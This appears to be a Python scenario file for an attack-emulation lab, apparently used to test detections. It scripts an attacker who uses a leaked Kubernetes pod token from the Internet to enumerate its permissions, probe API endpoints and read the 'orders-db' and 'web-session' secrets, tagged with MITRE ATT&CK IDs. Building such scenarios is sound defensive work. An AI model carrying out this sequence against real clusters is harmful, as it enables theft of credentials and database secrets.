"""A pod's mounted token has leaked and is used with curl from the Internet."""

from lab.cast import AGENTS
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.stranger(stage.lab.running("shop", "web").identity, AGENTS["curl"])
    review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}}
    with stage.step("ask for its rights", thief, "discovery", ("A08", "B01", "B02", "N08")):
        stage.must(thief.post("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", review))
    with stage.step("try the doors", thief, "discovery", ("A07", "B04", "B06", "F02")):
        for path in (
            "nodes",
            "namespaces",
            "secrets",
            "pods",
            "namespaces/kube-system/secrets",
            "namespaces/shop/pods",
        ):
            thief.get(f"/api/v1/{path}")
    with stage.step("take the secrets it may read", thief, "credential-access", ("A08", "F01", "F07", "F08", "N08")):
        stage.must(thief.get("/api/v1/namespaces/shop/secrets/orders-db"))
        thief.get("/api/v1/namespaces/shop/secrets/web-session")


SCENARIO = Scenario(
    "stolen-pod-token",
    "A pod's token is used from the Internet",
    "attack",
    "read what the shop's web server may read",
    ("T1528", "T1550.001"),
    _play,
)
